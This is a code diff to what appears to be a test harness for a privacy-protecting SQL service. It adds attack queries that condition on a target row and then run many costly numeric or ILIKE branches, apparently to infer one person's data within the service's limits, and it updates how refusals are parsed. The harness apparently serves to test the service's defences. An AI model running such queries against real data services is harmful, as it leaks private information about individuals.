@@ -63,6 +63,19 @@ ATTACKS = {
     # Numeric branches through the largest join the bound accepts for them.
     "join-41-numeric": "SELECT COUNT(*) FROM adult a JOIN countries c ON true WHERE "
     f"CASE WHEN {TARGET} THEN {branches('pow', 'a.age + length(c.region)', 30)} ELSE false END",
+    # The largest numeric attacks on the target's row that are still
+    # accepted: 20 branches on the row itself, and 2 through a join of 41
+    # public rows per row.
+    "numeric-20": f"SELECT COUNT(*) FROM adult a WHERE CASE WHEN {TARGET} THEN "
+    f"{branches('atan2', 'a.age', 20)} ELSE false END",
+    "join-41-numeric-2": "SELECT COUNT(*) FROM adult a JOIN countries c ON true WHERE "
+    f"CASE WHEN {TARGET} THEN {branches('pow', 'a.age + length(c.region)', 2)} ELSE false END",
+    # An earlier attack, made to fit the service's request limit: eight
+    # long ILIKE patterns one row reaches.
+    "ilike-8": "SELECT COUNT(*) FROM adult a WHERE CASE WHEN "
+    f"{TARGET} THEN "
+    + " OR ".join(f"a.\"native-country\" ILIKE '%{'θ' * 200}{i}%'" for i in range(8))
+    + " ELSE false END",
     # An earlier attack: thirty-two long ILIKE patterns one row reaches.
     "ilike-branch": "SELECT COUNT(*) FROM adult a WHERE CASE WHEN "
     f"{TARGET} THEN "
@@ -177,7 +190,8 @@ def outcome_of(status, text):
     if status == 200:
         return "answered"
     try:
-        return "refused: " + json.loads(text).get("error", "")[:50]
+        error = json.loads(text).get("error", {})
+        return "refused: " + str(error.get("message", error))[:60]
     except (ValueError, AttributeError):
         return f"status {status}"
 
